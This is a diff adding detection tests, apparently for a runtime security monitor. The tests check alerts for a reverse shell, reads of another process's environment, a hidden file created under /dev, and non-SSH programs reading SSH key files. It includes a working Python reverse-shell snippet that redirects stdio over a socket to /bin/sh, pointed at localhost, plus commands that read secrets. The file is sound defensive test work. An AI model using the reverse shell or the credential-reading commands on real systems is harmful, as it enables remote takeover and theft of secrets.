@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import time
@@ -270,3 +271,77 @@ def test_touch_now_and_backdating_outside_system_directories_are_quiet(
     alert(alpha, "alpha.timestomp", marker.pid)
     quiet(alpha, "alpha.timestomp", now.pid)
     quiet(alpha, "alpha.timestomp", elsewhere.pid)
+
+
+# --- a reverse shell that exits at once --------------------------------------------------------
+
+QUICK_SHELL = """
+import os, socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execv("/bin/sh", ["sh", "-c", "exit 0"])
+"""
+
+
+def test_a_reverse_shell_gone_at_once_is_still_seen(alpha: SealedStream) -> None:
+    """stdio is read from the task's fd table at exec: /proc has nothing left to show."""
+    with socket.create_server(("127.0.0.1", 0)) as srv:
+        port = srv.getsockname()[1]
+        child = subprocess.Popen([sys.executable, "-c", QUICK_SHELL, str(port)])
+        conn, _ = srv.accept()
+        with conn:
+            assert child.wait(timeout=30) == 0
+    event = alert(alpha, "alpha.reverse_shell", child.pid)
+    assert event.process_exec.stdin.peer.port == port
+    assert event.process_exec.stdin.peer.address == "127.0.0.1"
+
+
+# --- paths below /proc, /dev and home directories ----------------------------------------------
+
+
+def test_reading_another_process_environment(alpha: SealedStream) -> None:
+    victim = subprocess.Popen(["sleep", "30"], env={"QSC_SECRET": "x"})
+    with killing(victim):
+        reader = subprocess.Popen(["cat", f"/proc/{victim.pid}/environ"], stdout=subprocess.DEVNULL)
+        assert reader.wait(timeout=30) == 0
+        own = subprocess.Popen(["cat", "/proc/self/environ"], stdout=subprocess.DEVNULL)
+        assert own.wait(timeout=30) == 0
+    event = alert(alpha, "alpha.environ_read", reader.pid)
+    assert event.file_access.path == f"/proc/{victim.pid}/environ"
+    quiet(alpha, "alpha.environ_read", own.pid)
+
+
+def test_a_file_created_below_dev(alpha: SealedStream) -> None:
+    path = Path(f"/dev/.qsc-{uuid.uuid4().hex[:8]}")
+    try:
+        p = subprocess.Popen(["touch", str(path)])
+        assert p.wait(timeout=30) == 0
+        event = alert(alpha, "alpha.dev_file_created", p.pid)
+        assert event.file_access.path == str(path)
+    finally:
+        path.unlink(missing_ok=True)
+
+
+def test_ssh_keys_read_by_a_non_ssh_program(alpha: SealedStream) -> None:
+    home = Path(f"/home/qsc-{uuid.uuid4().hex[:8]}")
+    key = home / ".ssh" / "id_ed25519"
+    key.parent.mkdir(parents=True)
+    try:
+        key.write_text("not a key\n")
+        p = subprocess.Popen(["cat", str(key)], stdout=subprocess.DEVNULL)
+        assert p.wait(timeout=30) == 0
+        event = alert(alpha, "alpha.ssh_information_read", p.pid)
+        assert event.file_access.path == str(key)
+        keygen = subprocess.Popen(
+            ["ssh-keygen", "-l", "-f", str(key)],
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        keygen.wait(timeout=30)  # not a key: it fails, having read it
+        marker = subprocess.Popen(["head", "-c1", str(key)], stdout=subprocess.DEVNULL)
+        assert marker.wait(timeout=30) == 0
+        alert(alpha, "alpha.ssh_information_read", marker.pid)
+        quiet(alpha, "alpha.ssh_information_read", keygen.pid)
+    finally:
+        shutil.rmtree(home)
